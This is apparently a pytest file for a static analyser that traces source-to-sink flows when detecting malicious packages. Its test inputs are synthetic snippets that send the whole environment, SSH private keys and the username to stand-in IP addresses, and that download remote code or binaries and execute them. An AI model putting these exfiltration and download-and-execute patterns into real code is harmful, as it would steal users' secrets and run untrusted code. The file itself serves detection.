"""Source -> sink flows (analysis/flows.py) on synthetic scripts; nothing is run."""

from __future__ import annotations

import pytest

from mphunter_gate.analysis import analyse, flows
from mphunter_gate.model.behaviour import behaviour
from mphunter_gate.types import Script, ScriptKind


def _flows(text: str) -> set[tuple[str, str]]:
    a = analyse(Script("pkg/client.py", ScriptKind.MODULE, text))
    assert not a.truncated
    return {(f.source, f.sink) for f in a.flows}


def test_the_whole_environment_sent_to_the_web_is_a_flow_of_all_of_it() -> None:
    text = (
        "import os, json, urllib.request\n"
        "def report():\n"
        "    data = json.dumps(dict(os.environ)).encode()\n"
        "    req = urllib.request.Request('http://203.0.113.7/c', data=data)\n"
        "    urllib.request.urlopen(req)\n"
    )
    assert ("environment:all", "network") in _flows(text)


def test_one_named_token_in_a_header_is_not_the_whole_environment() -> None:
    text = (
        "import os, requests\n"
        "TOKEN = os.environ['SERVICE_API_TOKEN']\n"
        "def get(path):\n"
        "    return requests.get('https://api.example.com/' + path,\n"
        "                        headers={'Authorization': TOKEN})\n"
    )
    assert _flows(text) == {("environment", "network")}


def test_a_child_process_environment_is_configuration_not_data() -> None:
    text = "import os, subprocess\nsubprocess.check_call(['make'], env=os.environ.copy())\n"
    assert _flows(text) == set()


def test_a_download_through_a_helper_reaches_exec() -> None:
    text = (
        "import urllib.request as u\n"
        "def fetch(url):\n"
        "    return u.urlopen(url).read()\n"
        "code = fetch('http://203.0.113.7/x')\n"
        "exec(code)\n"
    )
    assert ("network", "dynamic_code") in _flows(text)


def test_data_passed_to_a_helper_parameter_reaches_its_sink() -> None:
    text = (
        "import socket, getpass\n"
        "def send(payload):\n"
        "    s = socket.socket()\n"
        "    s.connect(('203.0.113.7', 4444))\n"
        "    s.send(payload)\n"
        "send(getpass.getuser().encode())\n"
    )
    assert ("recon", "network") in _flows(text)


def test_a_comprehension_over_the_environment_carries_it() -> None:
    text = (
        "import os, requests\n"
        "secrets = {k: v for k, v in os.environ.items() if 'TOKEN' in k}\n"
        "requests.post('https://hook.example.com', json=secrets)\n"
    )
    assert ("environment:all", "network") in _flows(text)


def test_decoded_text_reaching_exec_and_files_read_from_home_sent_out() -> None:
    text = (
        "import base64, os, requests\n"
        "exec(base64.b64decode('cHJpbnQoMSk='))\n"
        "with open(os.path.expanduser('~/.ssh/id_rsa')) as fh:\n"
        "    key = fh.read()\n"
        "requests.post('https://198.51.100.2/k', data=key)\n"
    )
    assert {("decode", "dynamic_code"), ("user_paths", "network")} <= _flows(text)


def test_plain_library_code_has_no_flow() -> None:
    text = (
        "import json, os\n"
        "def load(path):\n"
        "    with open(os.path.join(os.path.dirname(__file__), path)) as fh:\n"
        "        return json.load(fh)\n"
    )
    assert _flows(text) == set()


def test_flows_are_behaviour_features() -> None:
    a = analyse(
        Script(
            "pkg/c.py",
            ScriptKind.MODULE,
            "import os, requests\nrequests.post('https://x.example.com', json=dict(os.environ))\n",
        )
    )
    fired = set(behaviour(a).fired)
    assert {"flow:environment:all->network", "flow:environment->network"} <= fired


def test_a_flow_pass_past_its_budget_marks_the_analysis_cut(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(flows, "FLOW_NODE_BUDGET", 5)
    text = "import os, requests\n" + "x = 1 + 2\n" * 20 + "requests.post('u', data=os.environ)\n"
    a = analyse(Script("pkg/c.py", ScriptKind.MODULE, text))
    assert a.truncated


@pytest.mark.parametrize(
    "fetch",
    [
        "urllib.request.urlretrieve('http://198.51.100.20/s.bin', target)\n",
        "urllib.request.urlretrieve('http://198.51.100.20/s.bin', filename=target)\n",
        "open(target, 'wb').write(urllib.request.urlopen('http://198.51.100.20/s').read())\n",
        "with open(target, 'wb') as fh:\n"
        "        fh.write(urllib.request.urlopen('http://198.51.100.20/s').read())\n",
    ],
)
def test_a_downloaded_file_that_is_run_is_network_to_process(fetch: str) -> None:
    text = (
        "import os, subprocess, tempfile, urllib.request\n"
        "def _run():\n"
        "    target = os.path.join(tempfile.gettempdir(), '.update')\n"
        f"    {fetch}"
        "    subprocess.Popen([target], start_new_session=True)\n"
    )
    assert ("network", "process") in _flows(text)


def test_a_downloaded_file_that_is_only_read_is_not_run() -> None:
    text = (
        "import json, subprocess, urllib.request\n"
        "urllib.request.urlretrieve('https://example.com/data.json', 'data.json')\n"
        "CONFIG = json.load(open('data.json'))\n"
        "subprocess.run(['git', 'rev-parse', 'HEAD'])\n"
    )
    assert ("network", "process") not in _flows(text)
